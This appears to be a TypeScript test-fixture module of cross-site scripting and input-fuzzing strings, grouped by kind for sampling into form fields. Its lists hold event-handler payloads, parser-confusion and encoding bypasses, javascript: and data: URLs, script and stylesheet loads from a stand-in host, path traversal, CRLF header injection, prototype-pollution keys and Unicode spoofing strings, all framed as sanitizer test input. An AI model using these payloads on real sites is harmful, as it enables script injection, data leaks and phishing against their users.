/**
 * Texts that try to run a script in another user's page, or to break its layout. Scripts call `__xss`, which a test
 * defines, or `alert`. Grouped by kind, so that a sample contains some of each.
 */
const RUN = '__xss(1)';

/** Elements that run a handler without user interaction, with the attribute that does it. */
const selfRunning = [
  ['img', 'src=x onerror'],
  ['img', 'src onerror'],
  ['image', 'src=x onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input', 'autofocus onfocus'],
  ['select', 'autofocus onfocus'],
  ['textarea', 'autofocus onfocus'],
  ['button', 'autofocus onfocus'],
  ['a', 'href=# autofocus onfocus'],
  ['video', 'src=x onerror'],
  ['audio', 'src=x onerror'],
  ['iframe', 'onload'],
  ['object', 'data=x onerror'],
  ['embed', 'src=x onerror'],
  ['marquee', 'onstart'],
  ['details', 'open ontoggle'],
  ['style', 'onload'],
  ['link', 'rel=stylesheet href=x onerror'],
  ['script', 'src=x onerror'],
  ['frameset', 'onload'],
  ['dialog', 'open onfocusin'],
  ['div', 'style="animation:x 1s" onanimationstart'],
  ['div', 'style="transition:all 1s" ontransitionend'],
  ['div', 'popover id=x onbeforetoggle'],
  ['p', 'onpointerover'],
  ['b', 'onmousemove'],
  ['xss', 'id=x tabindex=1 onfocus'],
  ['keygen', 'autofocus onfocus'],
] as const;

/** Spellings of a tag that a text filter may overlook. */
const spellings: ((tag: string, rest: string) => string)[] = [
  (tag, rest) => `<${tag} ${rest}=${RUN}>`,
  (tag, rest) => `"><${tag} ${rest}=${RUN}>`,
  (tag, rest) => `'/><${tag.toUpperCase()}/${rest.replace(' ', '/')}='${RUN}'//`,
  (tag, rest) => `<${tag}\n${rest.replace(' ', '\t')} = "${RUN}">`,
];
const tags = selfRunning.flatMap(([tag, rest]) => spellings.map((spell) => spell(tag, rest)));

const scripts = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script\t>`,
  `<script src=data:,${RUN}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script>/*`,
  `--><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/">`,
  `<img src="https://evil.example/x.png">`,
  `<img srcset="https://evil.example/x.png 1x">`,
  `<video poster="https://evil.example/x.png">`,
  `<a href="https://evil.example/" ping="https://evil.example/">x</a>`,
];

const svg = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${RUN} /><text x=20 y=20>x</text></a>`,
  `<svg><set attributeName=onload to=${RUN}>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=${RUN}/></svg>#x">`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style>*{background:url(https://evil.example/x)}</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${RUN}</script>]]></svg>`,
  `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${RUN}"><rect width=99 height=99 /></a>`,
];

const encodings = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `%253Cimg%2520src%253Dx%2520onerror%253D${RUN}%253E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `＜script＞${RUN}＜/script＞`,
  `ʺ＞＜img src=x onerror=${RUN}＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `¼script¾${RUN}¼/script¾`,
  `<\u200bscript>${RUN}</script>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<img src=x onerror=&#95;&#95;xss(1)>`,
  `<img src=x onerror=\u2028${RUN}>`,
  `<ſcript>${RUN}</ſcript>`,
  `<ımg src=x onerror=${RUN}>`,
];

const expressions = [
  `\${${RUN}}`,
  `{{${RUN}}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\';${RUN};//`,
  `*/${RUN}/*`,
  `]]>${RUN}`,
  `);${RUN}//`,
  `'-${RUN}-'`,
  `"-${RUN}-"`,
  `\${\`\${${RUN}}\`}`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${RUN}//>\\x3e`,
];

const breakers = [
  `{"__proto__":{"polluted":true}}`,
  `","admin":true,"x":"`,
  `"}]}<!--`,
  `</div></div></main></body></html>`,
  `}</style><style>*{display:none}`,
  `;}*{display:none!important}/*`,
  `red;background:url(https://evil.example/x)`,
  `expression(${RUN})`,
  `@import "https://evil.example/x.css";`,
  `url(javascript:${RUN})`,
  `\\`,
  `\\\\"`,
  `'`,
  `"`,
  `\``,
  `<`,
  `>`,
  `&`,
  `&amp`,
  `&notanentity;`,
  `<!--`,
  `-->`,
  `]]>`,
  `\r\nSet-Cookie: x=1\r\n\r\n<script>${RUN}</script>`,
  `%00`,
  `%`,
  `%E0%A4%A`,
];

/** Names of inherited properties, and texts that look like other values. */
const keys = `__proto__ constructor prototype toString valueOf hasOwnProperty __defineGetter__ then toJSON length name
  undefined null NaN true false 0 -0 1e309 [object Object] function(){} Symbol.iterator`
  .split(/\s+/)
  .concat(['[object Object]', 'function () { [native code] }']);

const unicode = [
  // Right-to-left override without its end.
  '\u202egpj.exe\u202d',
  '\u202e\u202e\u202e',
  '\u2066\u2067\u2068x',
  'مرحبا <b>שלום</b> こんにちは',
  '\u200f\u200e\u061c',
  // Invisible characters.
  '\u200b',
  '\u2060\ufeff\u00ad',
  'a\u200bb\u200cc\u200dd',
  '\u3164',
  '\u115f\u1160',
  '\u0000',
  'a\u0000b',
  '\u0001\u0007\u0008\u001b[31m',
  '\u2028\u2029',
  '\ufffe\uffff',
  // Half of a surrogate pair.
  '\ud800',
  'x\udfff',
  // Many combining marks above and below a line.
  `z${'\u0300\u0301\u0302\u0303\u0330\u0331\u0489'.repeat(40)}a${'\u0334\u0335\u0336'.repeat(60)}`,
  `か${'\u3099\u309a'.repeat(100)}`,
  '👨‍👩‍👧‍👦👨🏿‍🦰🏴‍☠️🇯🇵'.repeat(30),
  '\u0e47'.repeat(200),
  '﷽'.repeat(60),
  '𒐫'.repeat(60),
  '꧅'.repeat(60),
  '𝒮𝒸𝓇𝒾𝓅𝓉<𝓈𝒸𝓇𝒾𝓅𝓉>',
  'Ｔｈｅ　ｑｕｉｃｋ',
  'ffl ﬃ ﷺ ㌖ ㋿',
  'İıſKÅ',
];

/** Texts without line breaks, or only line breaks. */
const layout = [
  'a'.repeat(10_000),
  'あ'.repeat(2_000),
  'ー'.repeat(500),
  'W'.repeat(300),
  'm_'.repeat(500),
  `https://example.com/${'x'.repeat(2_000)}`,
  '&nbsp;'.repeat(100),
  '\u00a0'.repeat(1_000),
  `x${'\n'.repeat(60)}x`,
  `x${' '.repeat(1_000)}x`,
  '\t'.repeat(100) + 'x',
  '<b>'.repeat(300),
  '('.repeat(1_000),
  '🎸'.repeat(500),
  'supercalifragilistic-'.repeat(40),
  '1234567890'.repeat(80),
];

/** Addresses that a filter does not recognise as such, but a browser does. */
const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `\ufeffjavascript:${RUN}`,
  `javascript\u0000:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript%3A${RUN}`,
  `javascript:%5F%5Fxss(1)`,
  `javascript://example.com/%0a${RUN}`,
  `javascript://https://example.com/%0d%0a${RUN}`,
  `javascript:void(0)//https://`,
  `https:javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `livescript:${RUN}`,
  `view-source:https://evil.example/`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==`,
  `DATA:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `data:text/javascript,${RUN}`,
  `blob:https://evil.example/1`,
  `file:///etc/passwd`,
  `ftp://evil.example/x`,
  `about:blank`,
  `chrome://settings`,
  `intent://x#Intent;scheme=javascript;end`,
  `tel:+81000000000`,
  `mailto:x@evil.example?subject=x`,
  `ws://evil.example/`,
];

const foreign = [
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example/x`,
  `https:\\\\evil.example/x`,
  `https:/evil.example/x`,
  `https://evil.example/x.png`,
  `http://evil.example/x.png`,
  `HTTPS://EVIL.EXAMPLE/x.webm`,
  `https://localhost@evil.example/x`,
  `https://user:password@evil.example/x`,
  `https://evil.example#@localhost/`,
  `https://evil.example\\@localhost/`,
  `https://evil。example/x`,
  `https://xn--80ak6aa92e.example/`,
  `https://аррӏе.example/`,
  `https://[::ffff:7f00:1]/x`,
  `https://0x7f.1/x`,
  `https://2130706433/x`,
  `https://evil.example/"onmouseover="${RUN}`,
  `https://evil.example/'><img src=x onerror=${RUN}>`,
  `https://evil.example/?x=<script>${RUN}</script>`,
  `https://evil.example/${'a'.repeat(2_000)}`,
  `https://evil.example/\u202egpj.exe`,
  `https://example.com/\nhttps://evil.example/`,
  `https://`,
  `http:///x`,
  `https://%00/`,
  `https://[`,
];

const uploads = [
  `/uploads/../api/users/me`,
  `/uploads/..%2f..%2fapi/users/me`,
  `/uploads/\\..\\..\\x`,
  `/uploads//evil.example/x.png`,
  `/uploads/x.png"onerror="${RUN}`,
  `/uploads/x.png'><script>${RUN}</script>`,
  `/uploads/x.svg#<script>${RUN}</script>`,
  `/uploads/x.html`,
  `/uploads/x.png\n\r\tx`,
  `/uploads/%00.png`,
  `/uploads/`,
  `/uploads`,
  `uploads/x.png`,
  `/UPLOADS/x.png`,
];

/** For fields that expect a text. */
export const xssTexts = [
  ...tags,
  ...scripts,
  ...svg,
  ...encodings,
  ...expressions,
  ...breakers,
  ...keys,
  ...unicode,
  ...layout,
  ...schemes,
  ...foreign,
];

/** For fields that expect a link. */
export const xssLinks = [...schemes, ...foreign, ...scripts.slice(0, 5), ...breakers.slice(0, 10), ...keys.slice(0, 5)];

/** For fields that expect the address of a picture, sound or video. */
export const xssMedia = [...schemes, ...foreign, ...uploads];

/** For fields that expect an e-mail address, whose quoted local part may contain anything. */
export const xssEmails = [...tags.slice(0, 20), ...scripts.slice(0, 10), ...keys.slice(0, 5), 'a'.repeat(200)].map(
  (text) => `"${text.replaceAll(/[\s"@]/g, '')}"@evil.example`,
);

/** Samples a list at equal distances, so that every kind is included. */
export function sampleOf(list: readonly string[], count: number, from = 0): string[] {
  const step = list.length / count;
  return Array.from({ length: Math.min(count, list.length) }, (_, at) => {
    const index = (Math.floor(at * step) + from) % list.length;
    return list[index] ?? '';
  });
}
